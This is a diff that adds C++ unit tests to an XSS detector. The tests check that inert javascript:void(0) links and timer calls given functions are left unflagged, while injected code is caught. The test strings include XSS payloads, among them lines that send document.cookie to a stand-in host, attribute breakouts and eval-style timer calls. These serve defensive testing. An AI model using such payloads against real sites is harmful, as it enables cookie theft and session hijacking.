@@ -623,5 +623,48 @@ TEST(XssTest, ScriptTagThenANameAndAQuote) {
   EXPECT_EQ(testing::RuleOf(XssDetector(), "<script>x='1'</script>"), "xss.script_tag");
 }
 
+TEST(XssTest, InertScriptIsClean) {
+  // A link that goes nowhere and a handler that only cancels the default.
+  for (const char* v : {"Why does my link to javascript:void(0) not close the modal?",
+                        "<a href=\"javascript:void(0)\">Menu</a>",
+                        "<a href=\"javascript:void 0;\">x</a>",
+                        "Is `<a href=\"#\" onclick=\"return false;\">Menu</a>` still acceptable?",
+                        "<button onclick=\"event.preventDefault(); return false\">",
+                        "\" onmouseover=\"return false\" x=\""}) {
+    EXPECT_EQ(RuleOf(XssDetector(), v), "") << v;
+  }
+  // Code after it still runs.
+  EXPECT_EQ(RuleOf(XssDetector(), "javascript:void(0);alert(1)"), "xss.js_url");
+  EXPECT_EQ(RuleOf(XssDetector(), "javascript:void(0) ;fetch('//x.example/'+document.cookie)"),
+            "xss.js_url");
+  EXPECT_EQ(RuleOf(XssDetector(), "javascript:void(0)\nfetch('//x.example/'+document.cookie)"),
+            "xss.js_url");
+  EXPECT_EQ(RuleOf(XssDetector(), "<a href=\"javascript:void(0);alert(1)\">x</a>"), "xss.js_url");
+  EXPECT_EQ(RuleOf(XssDetector(), "javascript:void 0;alert(1)"), "xss.js_url");
+  EXPECT_EQ(RuleOf(XssDetector(), "\"><a onclick=\"return false;alert(1)\">"),
+            "xss.event_handler");
+  EXPECT_EQ(RuleOf(XssDetector(), "<img src=x onerror=\"return leak()\">"), "xss.event_handler");
+  EXPECT_EQ(RuleOf(XssDetector(), "\" onmouseover=\"alert(1)\" x=\""), "xss.attribute_breakout");
+}
+
+TEST(XssTest, ElementLookupsAndTimersGivenFunctionsAreNotEvaluators) {
+  for (const char* v : {
+           "document.querySelector('#menu').addEventListener('click', () => nav.toggle());",
+           "document.getElementById('menu').hidden = true;",
+           "it isn't rendered until you clone it: document.importNode(tpl.content, true).",
+           "useEffect(() => {\n  const id = setInterval(tick, 1000);\n  return () => "
+           "clearInterval(id);\n}, []);",
+           "setTimeout(() => setOpen(false), 300)",
+           "setTimeout(function () { done = true; }, 10)"}) {
+    EXPECT_EQ(RuleOf(XssDetector(), v), "") << v;
+  }
+  for (const char* v : {"setTimeout(name)", "setTimeout('alert(1)')", "setTimeout(alert, 0, 1)",
+                        "setInterval(atob('YWxlcnQoMSk='))",
+                        "setTimeout(location.hash.slice(1))", "document.write('<b>x</b>')",
+                        "document.location.assign('//x.example')"}) {
+    EXPECT_EQ(RuleOf(XssDetector(), v), "xss.js_breakout") << v;
+  }
+}
+
 }  // namespace
 }  // namespace fnguard::detect
